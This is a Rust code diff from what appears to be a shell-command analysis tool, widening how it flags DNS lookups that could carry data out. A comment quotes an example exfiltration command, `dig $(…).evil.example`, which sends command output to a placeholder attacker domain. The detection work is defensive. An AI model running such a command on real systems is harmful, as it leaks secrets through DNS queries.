@@ -8,7 +8,7 @@ use crate::command_context::CommandContext;
 use crate::family::{Family, family};
 use crate::options::{Options, Spec, flag, value};
 use crate::stdout;
-use model::{Flags, ResourceKind, Verb};
+use model::{Action, Certainty, Flags, ResourceKind, Verb};
 
 /// The family.
 pub const SOCKETS: Family = family! {
@@ -122,13 +122,22 @@ fn address(arg: &Arg) -> Option<(String, Arg)> {
     Some((kind.to_uppercase(), rest))
 }
 
-/// `dig $(…).evil.example`: a name that holds what is not known here is a way out for data.
+/// `dig $(…).evil.example`: a name that holds what is not known here, or what this call has read
+/// in a file, is a way out for data.
 fn lookup(context: &mut CommandContext<'_, '_>) {
-    let args = &context.invocation.args;
-    let Some(name) = args.iter().find(|arg| arg.text.contains(Arg::HOLE)) else {
+    let is_read = |action: &Action| (action.verb, action.kind) == (Verb::Read, ResourceKind::File);
+    let reads = context.world.analysis.actions.iter().any(is_read);
+    let is_made = |arg: &&Arg| {
+        arg.text.contains(Arg::HOLE) || reads && arg.sure != Certainty::Literal && !arg.glob
+    };
+    let Some(name) = context.invocation.args.iter().find(is_made) else {
         return;
     };
-    let url = format!("dns://{}", name.text);
+    let name = match name.text.split_once('.') {
+        Some((_, domain)) if !name.text.contains(Arg::HOLE) => format!("{}.{domain}", Arg::HOLE),
+        _ => name.text.clone(),
+    };
+    let url = format!("dns://{name}");
     context.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
 }
 
